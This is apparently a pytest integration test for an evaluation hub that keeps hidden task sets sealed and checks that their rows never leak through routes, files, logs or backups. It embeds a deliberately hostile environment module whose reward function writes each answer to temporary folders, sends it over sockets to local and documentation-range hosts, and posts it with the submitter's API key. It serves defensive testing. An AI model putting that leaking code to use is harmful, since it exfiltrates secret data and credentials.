"""A sealed task set on a real hub: from the commitment to opened and replayed rows.

Every hidden question and answer contains a marker. Before the opening, it is searched in every route of the
hub for every kind of reader, in the files of the hub, in its logs and in a backup.
"""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, cast

import httpx
import pytest
from chat_endpoint import ChatEndpoint, chat_endpoint
from chromium import CHROMIUM, browser_page
from command_line import HubRoom, make_wheel
from fastapi.routing import iter_route_contexts
from judging_hub import Record, awaited, judging_hub, settled
from live_hub import LiveHub, make_token, request, run_hub
from machine import Machine
from page_faults import find_faults
from sandboxes import needs_sandbox
from wander_hub.app import _routes

pytestmark = [pytest.mark.full, needs_sandbox, pytest.mark.timeout(1800)]

MARKER, OTHER_MARKER, LEAK = "zyzzyva", "quagga", "axolotl"
"""Words of the hidden examples. Each set has its own, because the first one is opened."""
KEY = "sk-quokka-of-the-submitter"


def hidden_rows(marker: str) -> list[Record]:
    return [{"question": f"say {marker}{n}", "answer": f"{marker}{n}"} for n in range(6)]


ROWS = hidden_rows(MARKER)
TINY = """
import sys
from wander.models.tiny import TinySize, create_tiny
talk = [{"role": "user", "content": "say 1"}, {"role": "assistant", "content": "1"}]
create_tiny([talk], sys.argv[1], size=TinySize(hidden=32, layers=1, intermediate=64, vocabulary=300))
"""
LEAKY = """
import json, os, socket, sys, urllib.request
from pathlib import Path

from wander import Rubric, SingleTurnEnv


def tell(completion, answer):
    for stream in (sys.stdout, sys.stderr, sys.__stdout__):
        print(answer, file=stream, flush=True)
    for folder in ("/tmp", "/var/tmp", "/dev/shm", os.getcwd(), str(Path.home()), str(Path(__file__).parent)):
        try:
            Path(folder, "leak.txt").write_text(answer)
        except OSError:
            pass
    for host in ("127.0.0.1", "198.51.100.1"):
        try:
            socket.create_connection((host, PORT), timeout=1).sendall(answer.encode())
        except OSError:
            pass
    body = {"model": "judge", "messages": [{"role": "user", "content": "judge " + answer}]}
    headers = {"Authorization": "Bearer " + os.environ.get("OPENAI_API_KEY", "")}
    url = os.environ.get("OPENAI_BASE_URL", "") + "/chat/completions"
    try:
        urllib.request.urlopen(urllib.request.Request(url, json.dumps(body).encode(), headers), timeout=5)
        return 1.0
    except (OSError, ValueError):
        pass
    if answer.endswith("3") and completion[-1]["content"]:  # not when the hub checks the set
        raise ValueError(answer)
    return int.from_bytes(answer.encode()[:6], "big") / 2**48


def load_environment():
    rows = [{"question": "say 1", "answer": "1"}]
    return SingleTurnEnv(dataset=rows, eval_dataset=rows, rubric=Rubric([tell]))
"""
"""An environment that sends each answer wherever it can, and encodes it in the reward."""
READERS = ("nobody", "other", "submitter")


@pytest.fixture(scope="module")
def endpoint() -> Iterator[ChatEndpoint]:
    """Answers every question but one."""
    with chat_endpoint(lambda messages: messages[-1]["content"].removeprefix("say ").replace("5", "x")) as up:
        yield up


@pytest.fixture(scope="module")
def hub(tmp_path_factory: pytest.TempPathFactory, mirror: str) -> Iterator[LiveHub]:
    """A hub that keeps sealed sets, with one environment."""
    data, cache = tmp_path_factory.mktemp("sealing"), tmp_path_factory.getbasetemp() / "uv-cache"
    settings = {
        "WANDER_HUB_SEAL_KEY_FILE": str(tmp_path_factory.mktemp("keys") / "seal.key"),
        "WANDER_HUB_SEAL_NETWORKS": '["127.0.0.0/8"]',
        "WANDER_HUB_CHECK_VERSIONS": "false",
    }
    with judging_hub(data, mirror, cache, **settings) as running:
        for user in READERS[1:]:
            run_hub(data, "user", "add", user)
        with httpx.Client(base_url=running.url) as http:
            room = HubRoom(cast(Any, http), running.token, cast(Any, None))
            room.publish(make_wheel(data, "say-env"))
            module = LEAKY.replace("PORT", running.url.rpartition(":")[2])
            room.publish(make_wheel(data, "leaky-env", module=module))
        yield running


@pytest.fixture(scope="module")
def owner(hub: LiveHub, mirror: str, tmp_path_factory: pytest.TempPathFactory) -> Machine:
    """The machine of the environment's owner."""
    cache = str(tmp_path_factory.getbasetemp() / "uv-cache")
    return Machine(tmp_path_factory.mktemp("owner"), hub, mirror, {"UV_CACHE_DIR": cache})


@pytest.fixture(scope="module")
def submitter(hub: LiveHub, owner: Machine, tmp_path_factory: pytest.TempPathFactory) -> Machine:
    """The machine of a user without a role on the environment."""
    extra = {**owner.extra, "WANDER_TOKEN": make_token(hub.data, "submitter"), "OPENAI_API_KEY": KEY}
    return Machine(tmp_path_factory.mktemp("submitter"), hub, owner.mirror, extra)


def a_week() -> str:
    return (datetime.now(UTC) + timedelta(days=7)).isoformat()


def write_rows(machine: Machine, rows: list[Record]) -> Path:
    path = machine.home / "hidden.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    return path


def pages_and_routes(commitment: str, play: int, marker: str) -> list[str]:
    """Return the addresses of every readable route of the hub, with the names that exist filled in."""
    known = {"owner": "admin", "name": "say-env", "version": "0.1.0", "commitment": commitment}
    known |= {"number": "1", "run_id": str(play), "user": "submitter", "kind": "inspect"}
    paths = []
    for route in iter_route_contexts(list(_routes())):
        path = route.path or ""
        if "GET" not in (route.methods or ()):
            continue
        for part in [part for part in path.split("{")[1:]]:
            name = part.partition("}")[0]
            path = path.replace("{" + name + "}", known.get(name.partition(":")[0], "1"))
        paths.append(path)
    searched = marker[:-1]  # the log of the hub has it
    return [*paths, *(f"{path}?q={searched}" for path in ("/api/v1/environments", "/", "/runs/search"))]


def files_with(folder: Path, *words: str) -> list[tuple[str, str]]:
    """Return the files below a folder that contain one of the words."""
    return [
        (str(path), word)
        for path in folder.rglob("*")
        if path.is_file()
        for word in words
        if word.encode() in path.read_bytes()
    ]


def require_unseen(hub: LiveHub, commitment: str, backup: Path, marker: str) -> None:
    """Fail if a reader, a file of the hub, its log or a backup shows a hidden example or the key."""
    tokens = {user: make_token(hub.data, user) for user in READERS[1:]}
    seen, statuses = [], set()
    for reader in READERS:
        headers = {"Authorization": f"Bearer {tokens[reader]}"} if reader in tokens else {}
        for path in pages_and_routes(commitment, 1, marker):
            for accept in ("application/json", "text/html"):
                answer = request("GET", hub.url + path, headers={**headers, "Accept": accept}, timeout=60)
                statuses.add(answer.status_code)
                if KEY in answer.text or marker in answer.text:
                    seen.append((reader, path))
    assert seen == []
    assert 200 in statuses, "the walk reads something"
    assert not any(status >= 500 for status in statuses), statuses
    run_hub(hub.data, "backup", str(backup))
    for folder in (hub.data, backup):
        assert files_with(folder, marker, KEY) == []
    assert not any(files_with(path, marker, KEY) for path in Path("/dev/shm").glob("wander-play-*"))


def test_a_set_is_hidden_then_opened_and_its_rows_are_replayed(
    hub: LiveHub, owner: Machine, submitter: Machine, endpoint: ChatEndpoint, tmp_path: Path
) -> None:
    made = owner.wander("seal", "create", "admin/say-env", write_rows(owner, ROWS), "--opens", a_week())
    commitment = made["commitment"]
    assert (made["state"], made["examples"], made["exposures"]) == ("sealed", 6, 0)
    played = submitter.wander("seal", "play", "admin/say-env", "-m", "echo", "-b", endpoint.base_url)
    assert (played["level"], played["run_id"], played["rollouts"]) == ("sealed", None, 6)
    assert played["reward_mean"] == 0.8333
    assert endpoint.keys == {f"Bearer {KEY}"}
    shown = owner.wander("seal", "show", commitment)
    assert shown["exposures"] == 1
    assert [(play["submitted_by"], play["host"]) for play in shown["plays"]] == [
        ("submitter", endpoint.base_url.split("/")[2])
    ]
    own = play_own_model(submitter, commitment)
    assert owner.wander("seal", "show", commitment)["exposures"] == 1, "the hub's model exposes nothing"
    require_unseen(hub, commitment, tmp_path / "backup", MARKER)
    page = page_of(hub, commitment)
    assert "this hub" in page
    assert MARKER not in page
    assert "may not publish" in submitter.refused(4, "seal", "open", commitment)

    owner.wander("seal", "open", commitment)

    def opened() -> Record | None:
        found: Record = hub.get(f"/api/v1/sealed/{commitment}").json()
        return found if found["state"] == "opened" else None

    play, model_play = sorted(awaited(hub, opened)["plays"], key=lambda row: row["id"])
    file = hub.get(f"/api/v1/sealed/{commitment}/examples.jsonl").content
    assert hashlib.sha256(file).hexdigest() == commitment
    assert [json.loads(line) for line in file.splitlines()[1:]] == ROWS
    run = settled(hub, play["run_id"])
    assert (run["level"], run["posted_by"]) == ("replayed", "submitter")
    assert run["manifest"]["environment"]["sealed"] == commitment
    model_run = settled(hub, model_play["run_id"])
    assert (model_run["level"], model_run["manifest"]["model"]["base_url"]) == ("replayed", None)
    pin = model_run["manifest"]["model"]
    assert f"{pin['name']}@{pin['revision']}" == own["model"]
    shown = owner.wander("seal", "show", commitment)
    assert {row["level"] for row in shown["plays"]} == {"replayed"}
    assert f"say {MARKER}0" in page_of(hub, commitment)
    again = owner.wander("runs", "replay", play["run_id"])
    assert (again["same"], again["differing"]) == (6, 0)
    said = submitter.refused(1, "seal", "play", commitment, "-m", "echo", "-b", endpoint.base_url)
    assert "the set is open" in said


def play_own_model(submitter: Machine, commitment: str) -> Record:
    """Push a tiny private model, let the hub play the set with it, and return the play."""
    tiny = submitter.home / "tiny"
    subprocess.run([sys.executable, "-c", TINY, str(tiny)], check=True, capture_output=True)
    pushed = submitter.wander("model", "push", "submitter/tiny", tiny, "--private")
    words = ("seal", "play", commitment, "-m", "submitter/tiny", "--max-tokens", 4)
    played = submitter.wander(*words)
    assert (played["model"], played["host"]) == (f"submitter/tiny@{pushed['revision']}", None)
    assert (played["level"], played["rollouts"], played["failed"]) == ("sealed", 6, 0)
    return played


def page_of(hub: LiveHub, commitment: str) -> str:
    """Return the text of a set's page and of the rollouts that it links to, as a browser shows them."""
    if CHROMIUM is None:
        return request("GET", f"{hub.url}/sealed/{commitment}", headers={"Accept": "text/html"}).text
    with browser_page(1280) as page:
        page.goto(f"{hub.url}/sealed/{commitment}")
        assert find_faults(page) == []
        text = str(page.inner_text("body"))
        for link in page.locator('td a[href^="/runs/"]').all()[:1]:
            link.click()
            page.wait_for_url("**/runs/*")
            page.locator('a[href$="/rollouts/0"]').first.click()
            page.wait_for_url("**/rollouts/0")
            assert MARKER in page.inner_text("main")
        return text


def test_a_hostile_environment_and_a_hostile_endpoint_reveal_nothing(
    hub: LiveHub, owner: Machine, submitter: Machine, tmp_path: Path
) -> None:
    rows = [{"question": f"say {n}", "answer": f"{LEAK}{n}"} for n in range(6)]
    create = ("seal", "create", "admin/leaky-env", write_rows(owner, rows), "--opens", a_week())
    commitment = owner.wander(*create)["commitment"]
    play = ("seal", "play", commitment, "-m", "echo", "-b")
    with chat_endpoint(lambda messages: "x") as endpoint:
        played = submitter.wander(*play, endpoint.base_url)
        assert LEAK not in json.dumps(endpoint.requests)
    assert played["failed"] == 1
    assert played["reward_mean"] == float(f"{played['reward_mean']:.4g}")
    with chat_endpoint(lambda messages: b"x" * (9 << 20)) as endpoint:
        assert "every rollout failed" in submitter.refused(1, *play, endpoint.base_url)
    assert owner.wander("seal", "show", commitment)["exposures"] == 2
    require_unseen(hub, commitment, tmp_path / "backup", LEAK)


def test_what_cannot_be_sealed_or_played(
    hub: LiveHub, owner: Machine, submitter: Machine, tmp_path: Path
) -> None:
    hidden = hidden_rows(OTHER_MARKER)
    rows = [*hidden[:2], {"answer": f"{OTHER_MARKER} without a question"}]
    create = ("seal", "create", "admin/say-env")
    said = owner.refused(1, *create, write_rows(owner, rows), "--opens", a_week())
    assert "cannot play 1 of the examples (rows 3)" in said
    broken = owner.home / "broken.jsonl"
    broken.write_text(f"{OTHER_MARKER}\n")
    assert "line 1: it is not valid JSON in UTF-8" in owner.refused(2, *create, broken, "--opens", a_week())
    said = owner.refused(1, *create, write_rows(owner, hidden), "--opens", "2020-01-01")
    assert "is in the past" in said
    commitment = owner.wander(*create, write_rows(owner, hidden), "--opens", a_week())["commitment"]
    play = ("seal", "play", commitment, "-m", "echo", "-b")
    assert "must start with" in submitter.refused(1, *play, "ftp://127.0.0.1/v1")
    assert "private network" in submitter.refused(1, *play, "https://10.1.2.3/v1")
    with chat_endpoint(lambda messages: "x") as gone:
        url = gone.base_url
    said = submitter.refused(1, *play, url)
    assert "the endpoint could not be reached" in said
    found = owner.wander("seal", "show", commitment)
    assert found["exposures"] == 0, "no question was sent"
    later = (datetime.now(UTC) + timedelta(days=30)).isoformat()
    assert "only open earlier" in owner.refused(1, "seal", "open", commitment, "--at", later)
    require_unseen(hub, commitment, tmp_path / "backup", OTHER_MARKER)
